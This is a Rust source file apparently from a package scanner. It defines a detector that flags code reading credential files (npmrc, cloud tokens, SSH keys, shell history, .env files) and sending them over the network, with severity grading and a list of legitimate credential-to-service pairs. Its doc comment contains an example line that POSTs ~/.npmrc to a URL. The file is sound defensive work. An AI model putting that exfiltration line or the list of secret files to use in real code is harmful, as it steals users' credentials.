//! Files of credentials are read and sent away.
//!
//! Tokens of registries and clouds, SSH keys, the history of a shell: nobody but the program that they belong to has business with them.
//!
//! **What to do:** do not run it; if it ran, exchange everything that the files held. **Limits:** clients of clouds and registries read their own file and
//! send what is in it to their own service; where that host is not written in the code and only a function does it, it is told as low.
//! **Example:** `fetch(url, {method: 'POST', body: fs.readFileSync(home + '/.npmrc')})`.

use super::common::*;

pub(super) const DETECTOR: Detector = Detector {
    id: "behaviour/exfil-cred-file",
    catalogue: "EXFIL-CRED-FILE",
    title: "reads files of credentials and sends them",
    severity: Critical,
    ecosystems: &[],
    run,
};

const STORES: &[Class] = &[Class::CredentialFile];

fn run(package: &Package, findings: &mut Findings) {
    for (code, from, to, _) in package.flows() {
        let sends = matches!(to.what, What::NetSend | What::DnsQuery);
        let is_store = match from.what {
            What::FileRead | What::FolderRead => words::classes(&from.detail).any(STORES),
            What::KeychainRead => true,
            What::ExecOutput => words::classes(&from.detail).any(&[Class::Keychain, Class::CredentialFile]),
            _ => false,
        };
        if !sends || !is_store {
            continue;
        }
        let address = foreign(&to.detail);
        let own = address.as_ref().is_some_and(|address| is_own_service(&from.detail, address));
        let grade = match (early(code, to), &address) {
            (true, Some(_)) if !own => (Critical, Sure),
            (true, None) => (Critical, Likely),
            (false, Some(_)) if !own => (High, Likely),
            _ => (Low, Likely),
        };
        findings.tell(
            code,
            to,
            grade,
            &format!(
                "sends what it reads from a file of credentials to {} {}",
                host(&to.detail),
                when(code, to)
            ),
        );
    }
    collections(package, findings);
    walks(package, findings);
}

/// Files of settings, or whatever a walk through folders finds, sent to an address that is written in the code as soon as it is loaded. Nobody
/// asked for that; programs send files when they are started.
fn walks(package: &Package, findings: &mut Findings) {
    for code in package.code.iter().filter(|code| !code.reach.is_program) {
        let into = |to: &Fact, what: What| {
            code.facts.flowing().any(|(from, sink, _)| sink == to && from.what == what)
        };
        for (from, to, _) in code.facts.flowing() {
            let is_sent = to.what == What::NetSend && from.what == What::FileRead;
            if !is_sent || !early(code, to) || !code.is_sure(to) || foreign(&to.detail).is_none() {
                continue;
            }
            let is_settings = words::has(&from.detail, Class::DotEnv);
            let is_walk = from.detail.starts_with(['*', '~', '.'])
                && from.detail.ends_with('*')
                && into(to, What::FolderRead);
            if is_settings || is_walk {
                let what = if is_settings { "a file of settings" } else { "files that it finds in folders" };
                let message = format!("sends {what} to {} {}", host(&to.detail), when(code, to));
                findings.tell(code, to, (High, Likely), &message);
            }
        }
    }
}

/// Many files of credentials named in one file that also reads files and sends: a collection, whatever way the data takes.
fn collections(package: &Package, findings: &mut Findings) {
    for code in package.code.iter().filter(|code| in_file(code, &[What::NetSend, What::DnsQuery])) {
        let mut stores = std::collections::BTreeSet::new();
        let named = code
            .facts
            .facts
            .iter()
            .filter(|fact| matches!(fact.what, What::FileRead | What::FolderRead | What::Text));
        for fact in named {
            stores.extend(words::find(&fact.detail, Class::CredentialFile));
        }
        let reads =
            code.facts.facts.iter().find(|fact| matches!(fact.what, What::FileRead | What::FolderRead));
        let Some(read) = reads.filter(|_| stores.len() >= 3) else { continue };
        let flows = code.facts.flowing().any(|(from, to, _)| {
            matches!(from.what, What::FileRead | What::FolderRead) && to.what == What::NetSend
        });
        let sends_abroad = of_file(code, What::NetSend).any(|fact| foreign(&fact.detail).is_some());
        let grade = match (early(code, read), flows, sends_abroad) {
            (true, true, _) => (Critical, Sure),
            (true, false, true) => (Critical, Likely),
            (_, true, true) => (High, Likely),
            _ => (Medium, Likely),
        };
        findings.tell(
            code,
            read,
            grade,
            &format!("names {} kinds of credential files, reads files and sends something", stores.len()),
        );
    }
}

/// Whether a host belongs to the program whose file it is: `.aws/credentials` to amazonaws.
fn is_own_service(path: &str, address: &Address) -> bool {
    let path = path.to_ascii_lowercase();
    let services: &[(&str, &str)] = &[
        ("aws", "amazonaws"),
        ("azure", "azure"),
        ("azure", "microsoftonline"),
        ("gcloud", "googleapis"),
        ("application_default", "googleapis"),
        ("gh/hosts", "github"),
        ("git-credentials", "github"),
        ("npmrc", "npmjs"),
        ("pypirc", "pypi"),
        ("cargo", "crates"),
        ("docker", "docker"),
        ("huggingface", "huggingface"),
        ("kaggle", "kaggle"),
        ("databricks", "databricks"),
        ("vercel", "vercel"),
        ("sentryclirc", "sentry"),
        ("netrc", "heroku"),
        ("firebase", "googleapis"),
        ("wrangler", "cloudflare"),
    ];
    services.iter().any(|(file, service)| path.contains(file) && address.belongs_to(service))
}
